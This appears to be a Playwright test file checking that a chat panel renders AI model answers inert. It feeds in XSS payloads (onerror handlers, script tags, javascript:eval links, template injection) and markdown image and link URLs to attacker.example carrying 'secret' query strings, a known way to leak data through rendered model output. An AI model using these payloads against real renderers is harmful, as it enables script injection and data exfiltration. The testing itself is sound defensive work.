// The panel renders model output inert: nothing it shows fetches, runs or navigates (A2, A4–A7, A9,
// G6). The real production bundle in headless Chromium, WITHOUT the page's CSP: the renderer alone must
// hold (the CSP is a second line, checked in csp.test.ts). A loopback listener counts every connection.
import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import { harness, inspectPage, installInspector, type Listener, loadCorpus, renderAnswers, settle, stateOf, streamAnswers, turnOf, usePanelPage , expectNoTraffic, showAllTurns } from './support';

describe('webview rendering is inert (A2, A4–A7, A9, G6)', function () {
  this.timeout(60_000);
  const panel = usePanelPage();
  let listener: Listener;
  let page: Page;
  let requests: string[];
  beforeEach(() => ({ listener, page, requests } = panel));

  const noTraffic = () => expectNoTraffic(panel);

  it('negative control: the listener and the request watch see what the page itself fetches, the inspector sees a live handler', async () => {
    await page.evaluate((origin) => {
      new Image().src = `${origin}/control.png`;
      new Image().src = 'http://attacker.example/control.png';
      new Image().src = 'https://camo.githubusercontent.com/control.png'; // TLS to a plain listener: a connection, no request line
    }, listener.origin);
    // A connection is counted before its request line is read: wait for both.
    const seen = () => listener.hits() >= 3 && listener.requests.includes(`127.0.0.1:${listener.port}/control.png`) && listener.requests.includes('attacker.example/control.png');
    for (let i = 0; i < 100 && !seen(); i++) await page.waitForTimeout(20);
    assert.ok(listener.hits() >= 3, `expected the three control fetches to connect, saw ${listener.hits()}`);
    assert.ok(listener.requests.includes(`127.0.0.1:${listener.port}/control.png`));
    assert.ok(listener.requests.includes('attacker.example/control.png'), 'attacker.example resolves to the listener');
    assert.equal(requests.length, 3);
    await harness.post(page, stateOf([turnOf('t1', 'completed', 'hello')]));
    await settle(page);
    await page.evaluate(() => document.querySelector('.answer')?.insertAdjacentHTML('beforeend', '<img src="x:" onerror="window.__pwned = 1">'));
    await settle(page);
    const problems = await page.evaluate(inspectPage);
    assert.ok(problems.some((p) => p.includes('a script ran')), problems.join('\n'));
    assert.ok(problems.some((p) => p.includes('has onerror')), problems.join('\n'));
  });

  // ── A4 / A5 / A6 ─────────────────────────────────────────────────────────────
  const images = (origin: string) => [
    { id: 'md-image', text: `![secret chart](${origin}/p.png?q=secret)`, shows: '[image: secret chart]' },
    { id: 'md-image-remote', text: '![x](https://attacker.example/p.png?q=secret)', shows: '[image: x]' },
    { id: 'md-image-ref', text: `![tracker][t]\n\n[t]: ${origin}/ref.png`, shows: '[image: tracker]' },
    { id: 'md-image-in-link', text: `[![badge](${origin}/badge.svg)](https://attacker.example/)`, shows: '[image: badge]' },
    { id: 'html-img', text: `<img src="${origin}/raw.png" alt="raw">`, shows: '<img src=' },
    { id: 'html-srcset', text: `<img srcset="${origin}/a.png 1x, ${origin}/b.png 2x">`, shows: 'srcset=' },
    { id: 'html-picture', text: `<picture><source srcset="${origin}/p.webp"><img src="${origin}/p.png"></picture>`, shows: '<picture>' },
    { id: 'css-url', text: `<div style="background:url(${origin}/bg.png)">styled</div>\n\n<style>@import url(${origin}/i.css); p{background:url(${origin}/p.png)}</style>`, shows: 'url(' },
    { id: 'html-link', text: `<link rel="stylesheet" href="${origin}/l.css"><link rel="prefetch" href="${origin}/pf">`, shows: '<link rel=' },
    { id: 'svg-image', text: `<svg><image href="${origin}/s.png"/><image xlink:href="${origin}/s2.png"/></svg>`, shows: '<svg>' },
    { id: 'camo-proxy', text: '![ci](https://camo.githubusercontent.com/abc/68747470733a2f2f61747461636b6572)', shows: '[image: ci]' },
    { id: 'user-content', text: '![u](https://user-images.githubusercontent.com/1/secret.png)', shows: '[image: u]' },
    { id: 'redirect-http', text: `![r](${origin}/redirect?to=https://attacker.example/x.png)`, shows: '[image: r]' },
    { id: 'redirect-https', text: `![r](https://127.0.0.1:${origin.split(':').pop()}/redirect?to=https://attacker.example/x.png)`, shows: '[image: r]' },
    { id: 'google-proxy', text: '<img src="https://lh3.googleusercontent.com/proxy/abc">', shows: '<img src=' },
    { id: 'proxied-link', text: '[docs](https://proxy.duckduckgo.com/iu/?u=https://attacker.example/leak?d=secret)', shows: 'docs' },
  ];

  it('A4 A5 A6 remote images in a completed answer are never fetched; alt text or the markup is shown as text', async () => {
    const cases = images(listener.origin);
    const problems = await renderAnswers(page, cases);
    assert.deepEqual(problems, []);
    await settle(page, 4, 300);
    noTraffic();
    const texts = await page.evaluate(() => Object.fromEntries([...document.querySelectorAll<HTMLElement>('section.turn')].map((s) => [s.dataset.turnId, s.querySelector('.answer')?.textContent])));
    for (const c of cases) assert.ok(texts[c.id]?.includes(c.shows), `${c.id}: expected ${JSON.stringify(c.shows)} in ${JSON.stringify(texts[c.id])}`);
    assert.equal(await page.locator('.answer .image-placeholder').count(), cases.filter((c) => c.shows.startsWith('[image:')).length);
  });

  it('A4 A5 A6 remote images streamed in deltas are never fetched, at any render', async () => {
    const cases = images(listener.origin);
    const problems = await streamAnswers(page, cases, { chunk: 3 });
    assert.deepEqual(problems, []);
    await settle(page, 4, 300);
    noTraffic();
  });

  // ── A7 / G6 ──────────────────────────────────────────────────────────────────
  it('A7 G6 the payload corpus renders inert as a completed answer: no script, no on* attribute, no javascript:/data: target, no fetch', async () => {
    const corpus = loadCorpus('payloads.txt', listener);
    assert.ok(corpus.length >= 30, `corpus has ${corpus.length} payloads`);
    const problems = await renderAnswers(page, corpus.map((p, i) => ({ id: `g6-${i}: ${p.name}`, text: p.text })));
    assert.deepEqual(problems, []);
    // Each payload also alone, so one cannot hide another's breakage (e.g. an unclosed tag).
    for (const [i, p] of corpus.entries()) {
      const alone = await renderAnswers(page, [{ id: `g6-${i}: ${p.name}`, text: p.text }]);
      assert.deepEqual(alone, [], p.name);
    }
    await settle(page, 2, 300);
    noTraffic();
  });

  it('A7 G6 the payload corpus renders inert when streamed, checked after every delta', async () => {
    const corpus = loadCorpus('payloads.txt', listener);
    const answers = corpus.map((p, i) => ({ id: `g6-${i}: ${p.name}`, text: p.text }));
    assert.deepEqual(await streamAnswers(page, answers, { chunk: 4 }), []);
    // A different split: other intermediate states of the same payloads.
    assert.deepEqual(await streamAnswers(page, answers, { chunk: 7 }), []);
    await settle(page, 2, 300);
    noTraffic();
  });

  it('A7 untrusted questions, attachment paths and error text are shown as text', async () => {
    const evil = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>';
    await harness.post(page, stateOf([
      turnOf('t1', 'failed', evil, {
        question: evil,
        attachments: [{ kind: 'file', path: `src/${evil}.ts`, languageId: evil, text: evil }],
        error: { kind: 'server', message: evil, detail: evil, requestId: evil, retryable: true },
        statusDetail: evil,
      }),
    ]));
    await settle(page, 2, 200);
    assert.deepEqual(await page.evaluate(inspectPage), []);
    assert.equal(await page.locator('section.turn img, section.turn script').count(), 0);
    assert.ok((await page.locator('.question-text').textContent())?.includes('<img src=x'));
    noTraffic();
  });

  // ── A2 ───────────────────────────────────────────────────────────────────────
  it('A2 strings that would run eval, new Function or setTimeout("…") run nothing', async () => {
    const answers = [
      { id: 'eval-handler', text: '<img src=x onerror="eval(\'window.__pwned=1\')">' },
      { id: 'function-handler', text: '<svg onload="new Function(\'window.__pwned=2\')()"></svg>' },
      { id: 'timeout-script', text: '<script>setTimeout("window.__pwned=3", 0)</script>' },
      { id: 'eval-link', text: '[run](javascript:eval("window.__pwned=4"))' },
      { id: 'eval-text', text: 'eval("window.__pwned=5"); new Function("window.__pwned=6")(); setTimeout("window.__pwned=7")' },
      { id: 'eval-code', text: '```js\neval("window.__pwned=8");\nsetTimeout("window.__pwned=9", 0);\n```\n\n`new Function("window.__pwned=10")()`' },
      { id: 'template', text: '{{constructor.constructor("window.__pwned=11")()}} ${window.__pwned=12}' },
    ];
    assert.deepEqual(await renderAnswers(page, answers), []);
    assert.deepEqual(await streamAnswers(page, answers, { chunk: 5 }), []);
    // Clicking everything clickable in the answers runs nothing either.
    for (const link of await page.locator('.answer a').all()) await link.click();
    await settle(page, 2, 200);
    assert.equal(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), undefined);
    const texts = await page.locator('.answer').allTextContents();
    assert.ok(texts.some((t) => t.includes('eval("window.__pwned=5")')), 'the text is shown as text');
    noTraffic();
  });

  // ── A9 ───────────────────────────────────────────────────────────────────────
  it('A9 partial markup split across deltas never fetches at any intermediate render', async () => {
    const o = listener.origin;
    const splits: { id: string; deltas: string[] }[] = [
      { id: 'image-split-in-url', deltas: ['Here: ![a](https://att', 'acker.example/x.png', ') done'] },
      { id: 'image-split-in-origin', deltas: [`![a](${o.slice(0, 12)}`, `${o.slice(12)}/split`, '.png)'] },
      { id: 'image-bang-alone', deltas: ['text !', '[a', '](', `${o}/bang.png`, ')'] },
      { id: 'link-split-in-url', deltas: ['[docs](https://attacker.exa', 'mple/leak?d=sec', 'ret) and more'] },
      { id: 'link-javascript-split', deltas: ['[x](java', 'script:window.__pwned=1', ')'] },
      { id: 'html-split', deltas: ['<im', `g src="${o}/h`, '.png" oner', 'ror="window.__pwned=1">'] },
      { id: 'unclosed-fence', deltas: ['```html\n<img src="', `${o}/fence.png">`, '\n<script>window.__pwned=1</script>'] },
      { id: 'fence-closing-late', deltas: ['```\n', `![x](${o}/in-fence.png)\n`, '``', '`\n\n', `![y](${o}/after-fence.png)`] },
      { id: 'reference-late', deltas: ['![t][ref]\n\n', `[ref]: ${o}/`, 'late.png'] },
      { id: 'autolink-split', deltas: ['<https://attacker', '.example/auto>'] },
    ];
    // Every prefix of every split payload, character by character, is one render too.
    const byChar = splits.map((s) => ({ id: `${s.id} (by character)`, text: s.deltas.join('') }));
    await harness.post(page, stateOf(splits.map((s) => turnOf(s.id, 'in_progress'))));
    await showAllTurns(page);
    await installInspector(page);
    const problems = await page.evaluate(async (splits) => {
      const inspect = (window as unknown as { __inspect: () => string[] }).__inspect;
      const frame = () => new Promise((resolve) => requestAnimationFrame(resolve));
      const found: string[] = [];
      for (const s of splits) {
        for (const [i, d] of s.deltas.entries()) {
          window.postMessage({ type: 'delta', turnId: s.id, text: d }, '*');
          await frame();
          await frame();
          for (const p of inspect()) found.push(`${s.id} after delta ${i + 1}: ${p}`);
        }
      }
      return found;
    }, splits);
    assert.deepEqual(problems, []);
    const answers = await page.evaluate(() => [...document.querySelectorAll('.answer')].map((a) => a.textContent ?? ''));
    assert.ok(answers.some((t) => t.includes('done')), 'the streamed text arrived');
    assert.deepEqual(await streamAnswers(page, byChar, { chunk: 1 }), []);
    await settle(page, 2, 300);
    noTraffic();
  });
});
